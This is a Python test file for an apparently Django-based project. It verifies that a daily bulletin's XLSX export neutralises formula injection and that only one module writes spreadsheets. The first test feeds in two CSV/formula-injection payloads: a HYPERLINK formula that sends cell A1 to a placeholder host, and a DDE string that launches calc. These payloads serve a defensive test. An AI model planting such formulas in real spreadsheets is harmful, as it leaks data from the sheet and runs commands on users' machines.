"""One formula-safe spreadsheet writer (`core.tabular`): the bulletin's workbook goes
through it like every export, so a highlight typed as a formula stays text; and no other
module of fangkong writes a spreadsheet by itself (checked on the source)."""

from __future__ import annotations

import ast
import io
from datetime import date, datetime, time
from pathlib import Path

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from fangkong.reports.bulletin import bulletin_generate

HYPERLINK = '=HYPERLINK("http://x/?d="&A1,"详见")'
WRITER = "fangkong/core/tabular.py"
ROOT = Path(__file__).resolve().parent.parent


def test_a_formula_typed_as_a_highlight_is_text_in_the_bulletin_xlsx(world):
    day = date(2026, 3, 2)
    bulletin = bulletin_generate(
        node=world.nodes["T"],
        day=day,
        now=timezone.make_aware(datetime.combine(day, time(17, 30))),
        highlights=f"{HYPERLINK}\n@SUM(1+1)*cmd|' /C calc'!A0",
    )
    book = load_workbook(io.BytesIO(bytes(bulletin.xlsx)))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    (highlights,) = [s for s in book.worksheets if s.title == "亮点与问题"]
    notes = [row[0] for row in highlights.iter_rows(values_only=True)]
    assert notes[:2] == [f"'{HYPERLINK}", "'@SUM(1+1)*cmd|' /C calc'!A0"]
    # Still the bulletin: a merged bold title, frozen panes, numbers, a signed change.
    sheet = book.worksheets[0]
    assert sheet["A1"].font.b and "A1:" in str(sheet.merged_cells)
    assert sheet.freeze_panes == "B4" and sheet.column_dimensions["A"].width == 18
    change = next(row for row in sheet.iter_rows(min_row=4) if row[0].value == "较昨日")
    numbers = [c for c in change[2:] if c.value not in (None, "")]
    assert numbers and all(isinstance(c.value, int) for c in numbers)
    assert all(c.number_format == "+0;-0;0" for c in numbers)


# Nobody else writes spreadsheets ---------------------------------------------------------


def writers_in(source: str) -> list[str]:
    """Spreadsheet writing found in a module's source: openpyxl's Workbook, csv (or
    defusedcsv) writers, xlsxwriter."""
    found = []
    csv_modules = {"csv"}
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Import):
            for alias in node.names:
                if alias.name.startswith(("xlsxwriter", "pyexcelerate")):
                    found.append(f"import {alias.name}")
                if alias.name in ("csv", "defusedcsv", "defusedcsv.csv", "unicodecsv"):
                    csv_modules.add(alias.asname or alias.name)
        elif isinstance(node, ast.ImportFrom):
            module = node.module or ""
            names = {a.name for a in node.names}
            if module.startswith("openpyxl") and "Workbook" in names:
                found.append(f"from {module} import Workbook")
            if module in ("csv", "defusedcsv.csv", "unicodecsv") and names & {
                "writer",
                "DictWriter",
            }:
                found.append(f"from {module} import writer")
            if module == "defusedcsv" and "csv" in names:
                csv_modules.add("csv")
            if module.startswith("xlsxwriter"):
                found.append(f"from {module} import ...")
        elif isinstance(node, ast.Attribute):
            base = node.value
            if isinstance(base, ast.Name):
                if base.id in csv_modules and node.attr in ("writer", "DictWriter"):
                    found.append(f"{base.id}.{node.attr}")
                if base.id == "openpyxl" and node.attr == "Workbook":
                    found.append("openpyxl.Workbook")
            elif (
                isinstance(base, ast.Attribute)
                and base.attr == "csv"
                and node.attr in ("writer", "DictWriter")
            ):
                found.append(f"csv.{node.attr}")
    return found


def test_no_module_but_the_writer_writes_a_spreadsheet():
    offenders = {}
    for path in sorted((ROOT / "fangkong").rglob("*.py")):
        rel = path.relative_to(ROOT).as_posix()
        if rel == WRITER or "/migrations/" in rel:
            continue
        found = writers_in(path.read_text(encoding="utf-8"))
        if found:
            offenders[rel] = found
    assert offenders == {}


@pytest.mark.parametrize(
    "source",
    [
        # reports/documents.py before the fix
        "def render_xlsx(s):\n    from openpyxl import Workbook\n    wb = Workbook()\n",
        "import openpyxl\nbook = openpyxl.Workbook()\n",
        "import csv\nw = csv.writer(f)\n",
        "import defusedcsv.csv as safe\nw = safe.writer(f)\n",
        "from csv import DictWriter\n",
        "import xlsxwriter\n",
    ],
)
def test_the_source_check_catches_a_writer(source):
    assert writers_in(source)


def test_the_source_check_allows_reading():
    source = "import csv\nfrom openpyxl import load_workbook\nrows = csv.reader(f)\n"
    assert writers_in(source) == []
